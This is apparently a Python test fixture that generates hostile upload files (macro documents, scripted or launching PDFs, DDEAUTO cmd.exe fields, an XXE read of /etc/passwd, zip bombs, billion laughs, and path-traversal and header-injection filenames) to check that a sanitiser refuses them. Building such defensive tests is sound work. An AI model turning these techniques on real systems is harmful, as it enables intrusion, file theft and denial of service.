"""Sixty files that somebody sends to stop, trick or infect: small, made here, each refused or made harmless.

`harmless`: what is kept of it holds no PAYLOAD; every other one is refused at every place.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import olefile
import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from luojiang_ce.uploads.dangers import EICAR
from tests.documents import PDF, archive, external, office, pdf, relations
from tests.luojiang_ce.files.bombs import drawn_often, long_directory

PAYLOAD = b"payload-5e1f"
HIDDEN = b"<script>" + PAYLOAD + b"</script>"
MB = 1 << 20


@dataclass(frozen=True)
class Hostile:
    """A file: what it is, what it is called, how it is made."""

    what: str
    name: str
    make: Callable[[], bytes]
    harmless: bool = False

    def __str__(self) -> str:
        return self.what


# --- parts to make them of --------------------------------------------------------------------------------------------


def packed(size: int, of: bytes = b"\0") -> bytes:
    """So many bytes of one kind, a thousandth as large."""
    packer, out, chunk = zlib.compressobj(9), [], of * (MB // len(of))
    out = [packer.compress(chunk) for _ in range(size // MB)]
    return b"".join([*out, packer.flush()])


def zip_bomb(name: str, megabytes: int) -> bytes:
    """An office document with a part that is that large."""
    out = io.BytesIO(office("word"))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as made, made.open(name, "w") as part:
        for _ in range(megabytes):
            part.write(b" " * MB)
    return out.getvalue()


def lying_zip() -> bytes:
    """The directory says that the part is short."""
    content = bytearray(zip_bomb("word/long.xml", 310))
    at = content.rindex(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


def quines(depth: int) -> bytes:
    """An archive in an archive in an archive …"""
    content = b"x"
    for level in range(depth):
        content = archive({f"{level}.zip": content})
    return content


def workbook(sheet: bytes, strings: bytes = b"", **parts: bytes) -> bytes:
    """A workbook with this sheet."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    sheets = '<sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets>'
    book = f'<workbook xmlns="{main}" xmlns:r="{kinds}">{sheets}</workbook>'
    leads = relations(
        f'<Relationship Id="r1" Type="{kinds}/worksheet" Target="worksheets/sheet1.xml"/>',
        f'<Relationship Id="r2" Type="{kinds}/sharedStrings" Target="sharedStrings.xml"/>',
    )
    head = f'<worksheet xmlns="{main}"><sheetData>'.encode()
    listed = {
        "xl/_rels/workbook.xml.rels": leads,
        "xl/worksheets/sheet1.xml": head + sheet + b"</sheetData></worksheet>",
        "xl/sharedStrings.xml": f'<sst xmlns="{main}">'.encode() + strings + b"</sst>",
        **{name.replace("__", "/"): content for name, content in parts.items()},
    }
    made = office("xl", listed)
    source, out = zipfile.ZipFile(io.BytesIO(made)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.namelist():
            target.writestr(entry, book if entry == "xl/workbook.xml" else source.read(entry))
    return out.getvalue()


def cells(number: int, row: bytes = b'<row><c t="n"><v>1</v></c></row>') -> bytes:
    return row * number


def one_text_for_all() -> bytes:
    return workbook(cells(100_000, b'<row><c t="s"><v>0</v></c></row>'), b"<si><t>" + b"a" * 30_000 + b"</t></si>")


def with_part(name: str, content: bytes) -> Callable[[], bytes]:
    """Makes an office document with this part besides."""
    return lambda: office(name.partition("/")[0], {name: content})


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **how: object) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind, **how)
    return out.getvalue()


def png_with(**texts: str) -> bytes:
    notes = PngInfo()
    for name, text in texts.items():
        notes.add_text(name, text, zip=len(text) > 1000)
    return picture("PNG", pnginfo=notes)


def png_of(width: int, height: int, packed_rows: bytes) -> bytes:
    def part(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", packed_rows) + part(b"IEND", b"")


def frames(kind: str, number: int) -> bytes:
    first, *others = (Image.new("P", (40, 40), shade % 255) for shade in range(number))
    out = io.BytesIO()
    first.save(out, kind, save_all=True, append_images=others)
    return out.getvalue()


def ole(*streams: str, content: bytes = b"\0" * 5000) -> bytes:
    """A compound file with streams of these names, of one storage each where they are paths."""
    names = ["Root Entry", *streams]
    sectors = -(-len(content) // 512)
    body = content.ljust(sectors * 512, b"\0")
    entries = b"".join(_entry(name, number, len(names), len(content)) for number, name in enumerate(names))
    entries += b"\0" * (-len(entries) % 512)
    directory = len(entries) // 512
    fat = [*range(1, directory), 0xFFFFFFFE]
    fat += [*range(directory + 1, directory + sectors), 0xFFFFFFFE]
    place = len(fat)
    fat += [0xFFFFFFFD]
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(512, b"\xff")
    head = struct.pack(
        "<8s16sHHHHHHIIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, 0, 0, 0, 1, 0, 0,
        4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0,
    )  # fmt: skip
    head += struct.pack("<I", place) + b"\xff" * (512 - len(head) - 4)
    return head + entries + body + table


def _entry(name: str, number: int, count: int, size: int) -> bytes:
    root, directory = number == 0, -(-count * 128 // 512)
    text = name.encode("utf-16-le")
    right = number + 1 if 0 < number < count - 1 else 0xFFFFFFFF
    child = 1 if root and count > 1 else 0xFFFFFFFF
    return (
        text.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(text) + 2, 5 if root else 2, 1, 0xFFFFFFFF, right, child)
        + bytes(36)
        + struct.pack("<II", 0xFFFFFFFE if root else directory, 0 if root else size)
        + bytes(4)
    )


def book(*records: tuple[int, bytes]) -> bytes:
    """The stream of an older workbook."""
    begin = struct.pack("<HH", 0x809, 16) + struct.pack("<HH", 0x600, 5) + bytes(12)
    return (begin + b"".join(struct.pack("<HH", kind, len(body)) + body for kind, body in records)).ljust(5000, b"\0")


def slides(*records: bytes) -> bytes:
    """Older slides with these records."""
    return ole("PowerPoint Document", content=b"".join(records).ljust(5000, b"\0"))


def slide_record(kind: int, body: bytes, head: int = 0) -> bytes:
    return struct.pack("<HHI", head, kind, len(body)) + body


def project_of_macros(place: int, number: int) -> bytes:
    return slide_record(0x3FF, slide_record(0x400, struct.pack("<III", place, number, 2), 2), 15)


def within_slides(content: bytes) -> bytes:
    return slide_record(0x1011, struct.pack("<I", len(content)) + zlib.compress(content), 0x10)


def locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as made:
        made.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def pdf_with(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as made:
        made.attachments[name] = content
        made.save(out)
    return out.getvalue()


def pdf_with_a_file_beside() -> bytes:
    """One attachment is an invoice, on the page hangs another."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(PDF)) as made:
        made.attachments["a.xml"] = b"<?xml version='1.0'?><a/>"
        held = made.make_stream(b"MZ" + PAYLOAD)
        spec = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="x.exe", EF=pikepdf.Dictionary(F=held))
        hung = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=spec, Rect=[0, 0, 9, 9]
        )
        made.pages[0].Annots = pikepdf.Array([hung])
        made.save(out)
    return out.getvalue()


def stream(entries: bytes, content: bytes) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(content), content)


def page_loop() -> bytes:
    return PDF.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 9")


def pages(number: int) -> bytes:
    made = pdf(*[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * number)
    kids = b" ".join(b"%d 0 R" % (4 + each) for each in range(number))
    return made.replace(b"/Kids[3 0 R]/Count 1", b"/Kids[" + kids + b"]/Count %d" % number)


def packed_list() -> bytes:
    """The list of its objects comes to 600 MB; qpdf gives it up and finds the objects by itself."""
    entries = b"/Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    made = pdf(stream(entries, packed(600 * MB)))
    return made.replace(b"startxref\n%d" % made.rindex(b"xref\n0 "), b"startxref\n%d" % made.index(b"4 0 obj"))


def deep(levels: int) -> bytes:
    return b"[" * levels + b"]" * levels


JS = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"
MACROS_IN_XLS = ((0x85, struct.pack("<IBB", 0, 0, 1) + b"\1\0a"),)
LOCKED_XLS = ((0x2F, b"\1\0" + bytes(52)),)
LAUGHS = b"<!DOCTYPE x [" + b"".join(
    b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10 if n else b"ha") for n in range(10)
) + b"]><x>&a9;</x>"  # fmt: skip
DDE = b'<w:p xmlns:w="w"><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:p>'
DDE_SIMPLE = b'<w:p xmlns:w="w"><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
DDE_SPLIT = b'<w:p xmlns:w="w"><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>E x</w:instrText></w:r></w:p>'
DDE_SPELLED = b'<w:p xmlns:w="w"><w:instrText>&#68;DEAUTO x</w:instrText></w:p>'
FROM_A_SHARE = rb'<w:p xmlns:w="w"><w:instrText>INCLUDEPICTURE "\\\\x.invalid\\a.png" \\d</w:instrText></w:p>'
SHARED_PICTURE = relations(external("image", "file://x.invalid/a/b.png"))
DDE_LINK = b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'
OURS = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
FOREIGN = relations(external("attachedTemplate", "http://x.invalid/a.dotm"))
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="' + PAYLOAD + b'"/>'
LONG = "很" * 300

# --- the files --------------------------------------------------------------------------------------------------------

FILES = (
    # what scanners look for
    Hostile("eicar as text", "x.csv", lambda: EICAR),
    Hostile("eicar in a pdf", "x.pdf", lambda: PDF + EICAR),
    Hostile("eicar behind a picture", "x.jpg", lambda: picture() + EICAR),
    Hostile("eicar in a document", "x.docx", with_part("word/media/a.bin", b"x" * 9000 + EICAR)),
    Hostile("eicar in a plain zip", "x.zip", lambda: archive({"a.txt": EICAR})),
    # what runs
    Hostile("docm", "x.docm", lambda: office("word", {"word/vbaProject.bin": b"x"}, macros=True)),
    Hostile("docx with macros", "x.docx", lambda: office("word", {"word/vbaProject.bin": b"x"})),
    Hostile("macros in a type alone", "x.docx", lambda: office("word", macros=True)),
    Hostile("xlsx with excel 4 macros", "x.xlsx", lambda: office("xl", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    Hostile("activex", "x.docx", lambda: office("word", {"word/activeX/activeX1.xml": b"<x/>"})),
    Hostile("doc with macros", "x.doc", lambda: ole("WordDocument", "_VBA_PROJECT_CUR")),
    Hostile("ppt with macros", "x.ppt", lambda: slides(project_of_macros(7, 1))),
    Hostile("ppt with a doc with macros", "x.ppt", lambda: slides(within_slides(ole("WordDocument", "_VBA_PROJECT")))),
    Hostile("ppt with a program", "x.ppt", lambda: slides(within_slides(ole("\1Ole10Native")))),
    Hostile("xls with excel 4 macros", "x.xls", lambda: ole("Workbook", content=book(*MACROS_IN_XLS))),
    Hostile("pdf with a script", "x.pdf", lambda: pdf(catalog=JS)),
    Hostile("pdf with a script in disguise", "x.pdf", lambda: pdf(catalog=JS.replace(b"/Java", b"/J#61va"))),
    Hostile("pdf that launches", "x.pdf", lambda: pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    Hostile("pdf that sends", "x.pdf", lambda: pdf(catalog=b"/AA<</WC<</S/SubmitForm/F(http://x.invalid)>>>>")),
    Hostile("pdf with a form of scripts", "x.pdf", lambda: pdf(b"(x)", catalog=b"/AcroForm<</XFA 4 0 R>>")),
    # what hides
    Hostile("pdf with a program", "x.pdf", lambda: pdf_with("a.exe", b"MZ" + PAYLOAD)),
    Hostile("pdf with a program beside an invoice", "x.pdf", pdf_with_a_file_beside),
    Hostile("pdf with a script called xml", "x.pdf", lambda: pdf_with("a.hta", b"<?xml version='1.0'?>" + HIDDEN)),
    Hostile("pdf that is a zip", "x.pdf", lambda: PDF + archive({"a.exe": HIDDEN})),
    Hostile("picture that is a zip", "x.jpg", lambda: picture() + archive({"a.exe": HIDDEN})),
    Hostile("zip that is a picture", "x.zip", lambda: b"PK\x03\x04" + picture()),
    Hostile("picture with a tail", "x.jpg", lambda: picture() + HIDDEN, harmless=True),
    Hostile("picture with a comment", "x.jpg", lambda: picture(comment=HIDDEN), harmless=True),
    Hostile("png with texts", "x.png", lambda: png_with(Comment=HIDDEN.decode()), harmless=True),
    Hostile("png with a tail", "x.png", lambda: picture("PNG") + HIDDEN, harmless=True),
    Hostile("page as a picture", "x.png", lambda: b"<html><body>" + HIDDEN),
    Hostile("svg as a picture", "x.jpg", lambda: SVG),
    Hostile("program as a document", "x.pdf", lambda: b"MZ\x90\0" + bytes(400) + HIDDEN),
    Hostile("script as a document", "x.docx", lambda: b"#!/bin/sh\n" + PAYLOAD),
    Hostile("anything with word in it", "x.docx", lambda: archive({"word/document.xml": HIDDEN})),
    Hostile("document with a program", "x.docx", with_part("word/embeddings/oleObject1.bin", ole("\1Ole10Native"))),
    Hostile("document with an archive", "x.docx", with_part("word/media/a.jpg", archive({"a": HIDDEN}))),
    Hostile("document behind which more hangs", "x.docx", lambda: office("word") + b"\0" * 70_000 + HIDDEN),
    Hostile("a name that is there twice", "x.docx", lambda: office("word").replace(b"_rels/.rels", b"word/documen")),
    Hostile("bare compound file", "x.doc", lambda: ole("Contents")),
    Hostile("installer", "x.doc", lambda: ole("\u4840\u3f3f\u4577\u446c")),
    # what fetches from elsewhere
    Hostile("document with a foreign template", "x.docx", with_part("word/_rels/settings.xml.rels", FOREIGN)),
    Hostile("document that starts programs", "x.docx", with_part("word/footer1.xml", DDE)),
    Hostile("document with a simple field", "x.docx", with_part("word/document2.xml", DDE_SIMPLE)),
    Hostile("document with a split field", "x.docx", with_part("word/footer1.xml", DDE_SPLIT)),
    Hostile("document with a spelled field", "x.docx", with_part("word/footer1.xml", DDE_SPELLED)),
    Hostile("document in another alphabet", "x.docx", with_part("word/footer1.xml", DDE.decode().encode("utf-16"))),
    Hostile("document with a picture of a share", "x.docx", with_part("word/footer1.xml", FROM_A_SHARE)),
    Hostile("document that shows a share", "x.docx", with_part("word/_rels/document.xml.rels", SHARED_PICTURE)),
    Hostile("document with a page of another kind", "x.docx", with_part("word/chunk.rtf", b"{\\rtf1 x}")),
    Hostile("document with a bare program", "x.docx", with_part("word/media/a.png", b"MZ" + PAYLOAD)),
    Hostile("pdf that opens a share", "x.pdf", lambda: pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\x\\y)>>")),
    Hostile("pdf that opens a page of the web", "x.pdf", lambda: pdf(catalog=b"/OpenAction<</S/URI/URI(http://x)>>")),
    Hostile("workbook that starts programs", "x.xlsx", with_part("xl/externalLinks/externalLink1.xml", DDE_LINK)),
    Hostile("xml that names a file of ours", "x.docx", with_part("word/footer1.xml", OURS)),
    # what cannot be read
    Hostile("locked pdf", "x.pdf", locked_pdf),
    Hostile("locked workbook", "x.xls", lambda: ole("Workbook", content=book(*LOCKED_XLS))),
    Hostile("locked office document", "x.xlsx", lambda: ole("EncryptedPackage")),
    Hostile("half a picture", "x.jpg", lambda: picture(size=(640, 480))[:-5000]),
    Hostile("half a pdf", "x.pdf", lambda: PDF[:60]),
    # what never ends
    Hostile("zip bomb", "x.docx", lambda: zip_bomb("word/long.xml", 310)),
    Hostile("zip bomb that lies", "x.docx", lying_zip),
    Hostile("archives in archives", "x.zip", lambda: quines(12)),
    Hostile("a directory without end", "x.docx", lambda: long_directory(300_000)),
    Hostile("a billion laughs", "x.docx", with_part("word/footer1.xml", LAUGHS)),
    Hostile("picture drawn a thousand times", "x.jpg", lambda: drawn_often(1000)),
    Hostile("picture of gigabytes", "x.png", lambda: png_of(60_000, 60_000, packed(MB))),
    Hostile("png of much text", "x.png", lambda: png_with(Comment="a" * 90_000_000)),
    Hostile("gif of many frames", "x.gif", lambda: frames("GIF", 300)),
    Hostile("png of many frames", "x.png", lambda: frames("PNG", 300), harmless=True),
    Hostile("pdf of 100,000 pages", "x.pdf", lambda: pages(100_000)),
    Hostile("pdf whose pages lead to themselves", "x.pdf", page_loop),
    Hostile("pdf nested without end", "x.pdf", lambda: pdf(deep(200_000), catalog=b"/X 4 0 R")),
    Hostile("pdf of a packed list", "x.pdf", packed_list, harmless=True),
    # names
    Hostile("a name that leads elsewhere", "../../../etc/cron.d/x.pdf", lambda: pdf(catalog=JS)),
    Hostile("a name of control characters", "a\r\nSet-Cookie: x\x07\x1b[31m\u202efdp.exe", lambda: b"MZ" + HIDDEN),
    Hostile("a name of 300 letters", f"{LONG}.pdf", lambda: pdf(catalog=JS)),
)  # fmt: skip

# Tables: read by their own reader, which says what is wrong; nothing of them is given to anybody.
TABLES = (
    Hostile("a million columns", "x.csv", lambda: b"," * 1_000_000 + b"\n1"),
    Hostile("a line without end", "x.csv", lambda: b'"' + b"a" * 5 * MB),
    Hostile("rows without end", "x.xlsx", lambda: workbook(cells(200_000))),
    Hostile("tags without end", "x.xlsx", lambda: workbook(b"<row/>" * 2_000_000)),
    Hostile("nested without end", "x.xlsx", lambda: workbook(b"<a>" * 1_000_000 + b"</a>" * 1_000_000)),
    Hostile("an attribute without end", "x.xlsx", lambda: workbook(b'<row a="' + b"a" * 50 * MB + b'"/>')),
    Hostile("one text for all", "x.xlsx", one_text_for_all),
    Hostile("a page of tables in tables", "x.htm", lambda: b"<table><tr><td>" * 100_000),
)  # fmt: skip
assert olefile.isOleFile(ole("WordDocument"))
